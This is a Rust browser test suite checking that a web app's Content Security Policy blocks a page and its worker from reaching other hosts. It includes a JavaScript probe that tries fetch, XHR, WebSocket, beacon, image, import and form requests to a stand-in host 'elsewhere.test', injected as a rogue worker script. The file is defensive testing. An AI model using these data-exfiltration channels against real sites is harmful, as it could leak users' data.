//! Nothing leaves the page: not from the page, not from the worker. Every visit checks that too (see `browser::visit`).

use crate::ARTICLE;
use crate::browser::{Role, visit};
use crate::host::{Answer, Host};
use serde_json::json;
use std::time::Duration;
use thirtyfour::prelude::*;

/// Tries every way out that a policy governs. Says which were not refused.
const WAYS_OUT: &str = "
    const other = 'http://elsewhere.test/';
    const open = [];
    await fetch(other + 'fetch', { mode: 'no-cors' }).then(() => open.push('fetch'), () => {});
    await new Promise(done => {
        const request = new XMLHttpRequest();
        request.onload = () => { open.push('XMLHttpRequest'); done(); };
        request.onerror = done;
        request.open('GET', other + 'xhr');
        request.send();
    });
    await new Promise(done => {
        try {
            const socket = new WebSocket('ws://elsewhere.test/');
            socket.onopen = () => { open.push('WebSocket'); done(); };
            socket.onerror = done;
        } catch { done(); }
    });
";

#[tokio::test]
async fn the_page_cannot_reach_another_host() -> WebDriverResult<()> {
    let host = Host::start();
    visit(&host, "", async |page| {
        page.shows("button", "Analyse").await?;
        let more = "
            navigator.sendBeacon(other + 'beacon', 'words');
            await new Promise(done => {
                const image = new Image();
                image.onload = () => { open.push('image'); done(); };
                image.onerror = done;
                image.src = other + 'image';
            });
            await import(other + 'script').then(() => open.push('script'), () => {});
            const form = Object.assign(document.createElement('form'), { action: other + 'form', target: '_blank' });
            document.body.append(form);
            form.submit();
            form.remove();
            return open;";
        assert_eq!(page.run(&format!("{WAYS_OUT}{more}")).await?, json!([]));
        let errors = page.errors().await?;
        assert!(errors.iter().all(|error| error.contains("Content Security Policy")), "refused otherwise: {errors:?}");
        Ok(())
    })
    .await
}

#[tokio::test]
async fn the_worker_cannot_reach_another_host() -> WebDriverResult<()> {
    assert_eq!(open_to_a_bad_worker(Host::start()).await?, "");
    Ok(())
}

#[tokio::test]
async fn without_the_policy_the_worker_could() -> WebDriverResult<()> {
    let host = Host::start().answering("index.html", Answer::Unbound);
    assert_eq!(open_to_a_bad_worker(host).await?, "fetch", "so the test above can fail");
    Ok(())
}

/// Which ways out are open to a worker that has gone over: its script tries them, then tells the host.
async fn open_to_a_bad_worker(host: Host) -> WebDriverResult<String> {
    let told = format!("open => fetch(new URL('told?' + open, {:?}))", host.page());
    let treason = format!("(async () => {{ {WAYS_OUT} return open; }})().then({told});");
    let host = host.answering("worker.js", Answer::Before(treason));
    let mut open = None;
    visit(&host, "", async |page| {
        for _ in 0..100 {
            let requests = host.requests();
            open = requests.iter().find_map(|request| request.strip_prefix("told?")).map(str::to_owned);
            if open.is_some() {
                break;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        page.errors().await?; // The refusals are what was asked for.
        host.forget();
        Ok(())
    })
    .await?;
    Ok(open.expect("the worker can tell its own host"))
}

#[tokio::test]
async fn reading_asks_nothing_of_any_host() -> WebDriverResult<()> {
    let host = Host::start();
    visit(&host, "", async |page| {
        page.fill("Article", ARTICLE).await?;
        page.press("Analyse").await?;
        page.shows("main", " placed").await?;
        page.ready().await?;
        page.run("await navigator.serviceWorker.ready;").await?;
        let before = host.requests();
        page.press("Share").await?;
        page.find(Role::Textbox, "Link").await?;
        page.run("await new Promise(done => setTimeout(done, 500));").await?;
        assert_eq!(host.requests(), before, "once ready, the page makes no request");
        // The page itself is asked for once more, to be kept, lest an older copy be kept.
        let mut sorted: Vec<_> = before.iter().filter(|address| !address.is_empty()).collect();
        sorted.sort();
        let all = sorted.len();
        sorted.dedup();
        assert_eq!(sorted.len(), all, "nothing is loaded twice: {before:?}");
        let named = ["Kestrel", "Haldane", "Oban"];
        assert!(!before.iter().any(|request| named.iter().any(|name| request.contains(name))), "{before:?}");
        Ok(())
    })
    .await
}
